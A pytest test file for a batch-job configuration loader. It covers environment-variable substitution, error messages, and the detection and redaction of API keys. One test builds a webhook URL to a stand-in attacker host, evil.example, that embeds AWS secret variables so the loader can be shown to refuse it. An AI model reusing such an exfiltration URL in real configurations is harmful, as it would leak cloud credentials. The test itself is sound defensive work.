from __future__ import annotations

from collections.abc import Callable
from decimal import Decimal

import pytest

from venice_batch.job import Job
from venice_batch.steps.fields import as_sent

Loader = Callable[..., Job]
Complaints = Callable[..., list[str]]

HEAD = "version: 1\nname: a\nsource: ./in\noutput: ./out\n"
KEY = "VENICE_INFERENCE_KEY_" + "s3cr3tW0rd"


@pytest.mark.parametrize(
    ("written", "environ", "prompt"),
    [
        ("${A}", {"A": "red"}, "red"),
        ("a ${A} mug", {"A": "red"}, "a red mug"),
        ("${A:-blue}", {}, "blue"),
        ("${A:-blue}", {"A": ""}, "blue"),
        ("'${A:-blue}'", {"A": "red"}, "red"),
        ('"${A}${A}"', {"A": "x"}, "xx"),
        ("$$5 and $5 and $", {}, "$5 and $5 and $"),
        ("'$${A}'", {"A": "x"}, "${A}"),
        ("${A}", {"A": "${B}"}, "${B}"),
        ("${A}", {"A": "x, model: y}"}, "x, model: y}"),
        ("'${A}'", {"A": "*a # b"}, "*a # b"),
        ("${A}", {"A": "1.10"}, "1.10"),
    ],
)
def test_a_text_is_filled_in_and_never_read_again(
    step: Loader, written: str, environ: dict[str, str], prompt: str
) -> None:
    assert as_sent(step(f"edit:\n      prompt: {written}", environ).steps[0].fields) == {"prompt": prompt}


def test_a_filled_in_number_acts_as_one(job: Loader) -> None:
    text = HEAD + "steps: [{upscale: {scale: '${N}'}}]\nbudget: {max_usd: '${USD:-2.50}'}\n"
    loaded = job(text, {"N": "4"})
    assert as_sent(loaded.steps[0].fields) == {"scale": 4}
    assert loaded.budget.max_usd == Decimal("2.50")


def test_a_missing_variable_is_named_once_with_its_place(complaints: Complaints) -> None:
    assert complaints(HEAD + "steps:\n  - upscale: {scale: '${N}'}\n  - edit: {prompt: '${P}'}\n") == [
        "/jobs/a.yaml:6:22: the variable N is not set; set it, or write ${N:-default}",
        "/jobs/a.yaml:7:20: the variable P is not set; set it, or write ${P:-default}",
    ]


@pytest.mark.parametrize("written", ["${", "${1}", "${A-b}", "${}", "${A b}"])
def test_a_variable_without_a_proper_name_is_refused(complaints: Complaints, written: str) -> None:
    (line,) = complaints(HEAD + f"steps:\n  - edit: {{prompt: '{written}'}}\n")
    assert line.startswith("/jobs/a.yaml:6:20: ${ without a variable's name; write ${NAME}")


def test_an_empty_variable_is_an_empty_text(complaints: Complaints) -> None:
    (line,) = complaints(HEAD + "steps:\n  - edit: {prompt: '${A}'}\n", {"A": ""})
    assert "the text is empty" in line


@pytest.mark.parametrize(
    ("text", "place"),
    [
        (f"steps: [upscale]\napi: {{base_url: 'https://x.example/{KEY}'}}\n", "6:36"),
        (f"steps: [upscale]  # {KEY}\n", "5:21"),
        (f"steps:\n  - edit: {{prompt: x, model: {KEY}}}\n", "6:30"),
        (f"steps: [upscale]\n{KEY}: x\n", "6:1"),
        (f"steps: [upscale]\nx: [{KEY}\n", "6:5"),
        ("steps:\n  - edit: {prompt: x, model: '${VENICE_API_KEY}'}\n", "6:30"),
        ("steps:\n  - edit: {prompt: x, model: '${OTHER}'}\n", "6:30"),
        (f'steps:\n  - edit: {{prompt: x, model: "\\x56{KEY[1:]}"}}\n', "6:30"),
    ],
)
@pytest.mark.parametrize("key", [KEY, "plain-old-word"])
def test_the_key_is_found_and_not_repeated(complaints: Complaints, text: str, place: str, key: str) -> None:
    environ = {"VENICE_API_KEY": key, "OTHER": KEY}
    lines = complaints(HEAD + text, environ)
    assert any(line.startswith(f"/jobs/a.yaml:{place}: this looks like an API key") for line in lines), lines
    assert "s3cr3t" not in "".join(lines)


def test_a_key_of_another_shape_is_found_by_its_words(complaints: Complaints) -> None:
    lines = complaints(HEAD + "steps:\n  - edit: {prompt: plain-old-word}\n", {"VENICE_API_KEY": "plain-old-word"})
    assert lines[0].startswith("/jobs/a.yaml:6:20: this looks like an API key")
    assert "plain-old-word" not in "".join(lines)


def test_the_key_in_an_option_is_not_repeated(complaints: Complaints) -> None:
    lines = complaints(HEAD + "steps: [upscale]\n", {}, [f"api.base_url={KEY}", f"{KEY}=1", f"steps.0.{KEY}=1"])
    assert "s3cr3t" not in "".join(lines)
    assert any(line.startswith("--set api.base_url:1:14: this looks like an API key") for line in lines), lines


@pytest.mark.parametrize("name", ["AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"])
def test_a_job_cannot_carry_off_a_secret_of_aws(complaints: Complaints, name: str) -> None:
    environ = {name: "wJalrXUtnFEMI", "COPY": "x-wJalrXUtnFEMI"}
    for variable in (name, "COPY"):
        text = f"steps: [upscale]\nnotify: {{webhook: 'https://evil.example/${{{variable}}}'}}\n"
        lines = complaints(HEAD + text, environ)
        assert lines[0].startswith("/jobs/a.yaml:6:19: this is a secret of AWS"), lines
        assert "wJalr" not in "".join(lines)
